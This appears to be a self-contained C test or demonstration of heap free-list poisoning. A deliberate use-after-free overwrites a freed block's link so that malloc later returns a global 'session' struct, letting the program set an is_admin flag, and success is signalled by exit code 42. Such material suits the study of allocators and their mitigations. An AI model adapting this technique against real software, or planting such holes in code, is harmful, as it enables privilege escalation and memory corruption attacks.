/*
 * metadata: a write to a freed block changes the link of its fast list, so that a later malloc hands out memory
 * that never was of the heap: here a structure of the program, which the attacker gets to fill.
 */
#include <stdint.h>
#include <stdlib.h>

/* Through volatile pointers, so that the compiler knows nothing about the blocks. */
static void *(*volatile allocate)(size_t) = malloc;
static void (*volatile release)(void *) = free;
typedef volatile uint64_t Word;

enum { GOAL_REACHED = 42 };

/* Uses up what the start of the program left free, so that the next blocks of about this size lie side by side. */
static void settle(size_t bytes) {
  for (int i = 0; i < 256; i++) allocate(bytes);
}

static struct {
  Word before, size; /* a number of the program that happens to be a possible size */
  Word is_admin[6];
} session = {0, 0x31, {0}};

int main(void) {
  settle(40);
  Word *block = allocate(40);
  allocate(40);
  release((void *)block);
  block[0] = (uint64_t)(uintptr_t)&session; /* use after free */
  allocate(40);
  Word *taken = allocate(40);
  if (taken) taken[0] = 1;
  return session.is_admin[0] == 1 ? GOAL_REACHED : 0;
}
